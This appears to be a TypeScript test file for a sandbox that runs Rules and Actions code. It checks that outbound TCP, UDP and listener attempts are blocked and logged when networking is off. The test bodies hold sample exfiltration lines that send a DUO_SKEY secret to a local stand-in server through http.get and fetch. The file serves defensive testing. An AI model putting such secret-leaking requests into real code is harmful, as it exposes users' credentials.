// Attack: send data out over TCP, UDP or a listener. Every attempt is listed; with --network off
// each is blocked inside the sandbox.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { asAction, asRule, createArena, runAttack, type Arena } from './hostileHelpers';

let arena: Arena;
let server: Server;
let port = 0;
const received: string[] = [];
before(async () => {
  arena = createArena();
  server = createServer((req, res) => { received.push(req.url ?? ''); res.end('ok'); });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
});
after(() => { server.close(); arena.remove(); });

describe('hostile: network', () => {
  for (const [form, wrap] of [['Rule', asRule], ['Action', asAction]] as const) {
    test(`${form}: exfiltration of the skey is blocked with --network off and listed`, async () => {
      const before = received.length;
      const body = form === 'Rule'
        ? `require('http').get('http://127.0.0.1:${port}/?k=' + configuration.DUO_SKEY);`
        : `await fetch('http://127.0.0.1:${port}/?k=' + event.secrets.DUO_SKEY).catch(() => {});`;
      const report = await runAttack(arena, `exfil-${form}`, wrap(body), { args: ['--network', 'off'] });
      assert.equal(received.length, before, 'the request reached the server');
      assert.deepEqual(report.connections, [{ host: '127.0.0.1', port, protocol: 'tcp' }]);
    });

    test(`${form}: UDP and a listening socket are blocked too`, async () => {
      const report = await runAttack(arena, `udp-${form}`, wrap(`
        const out = [];
        try { require('dgram').createSocket('udp4').send('x', ${port}, '127.0.0.1'); } catch (e) { out.push(e.code); }
        try { require('net').createServer().listen(0, '127.0.0.1'); } catch (e) { out.push(e.code); }
        console.log(out.join(' '));
      `), { args: ['--network', 'off'], outcome: 'completed' });
      assert.deepEqual(report.logs, ['ERR_NETWORK_OFF ERR_NETWORK_OFF']);
      assert.deepEqual(report.connections.map((c: { protocol: string }) => c.protocol), ['udp', 'tcp-listen']);
    });
  }
});
